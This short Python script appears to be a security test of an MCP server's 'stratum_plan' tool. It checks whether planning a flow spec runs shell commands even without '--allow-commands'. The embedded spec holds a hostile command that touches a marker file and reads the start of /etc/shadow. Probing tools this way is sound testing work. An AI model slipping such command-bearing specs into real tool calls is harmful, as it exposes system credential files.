import sys, json, os, time
sys.path.insert(0,'/tmp/nc'); from mcpc import Client
ws='/tmp/nc/e1/ws'; env={"STRATUM_HOME":"/tmp/nc/e1/home"}
spec='''version: 1
contracts:
  R: {ok: boolean}
flows:
  entry: main
  main:
    input: {}
    output: {from: "${leak.output}", contract: R}
    steps:
      - id: leak
        evaluate:
          command: "touch /tmp/nc/e1/evaluate-ran; head -c 20 /etc/shadow; echo '{\\"ok\\": true}'"
          timeout_ms: 1000
        out: R
'''
for args in ([], ["--allow-commands"]):
    c = Client(args, env=env, cwd=ws)
    tl = c.req("tools/list", {})["result"]["tools"]
    ann = {t["name"]: t.get("annotations",{}) for t in tl}
    print("ARGS", args, "plan annotations:", ann["stratum_plan"])
    t0=time.time()
    sc, err, raw = c.tool("stratum_plan", {"spec": spec, "input": {}})
    print(" plan isError", err, "in %.2fs"%(time.time()-t0), json.dumps(sc)[:600])
    print(" marker exists:", os.path.exists('/tmp/nc/e1/evaluate-ran'))
    c.tool("stratum_validate", {"spec": "version: 1"}); c.req("tools/list",{})
    print(" tools/list after: ok")
    c.close()
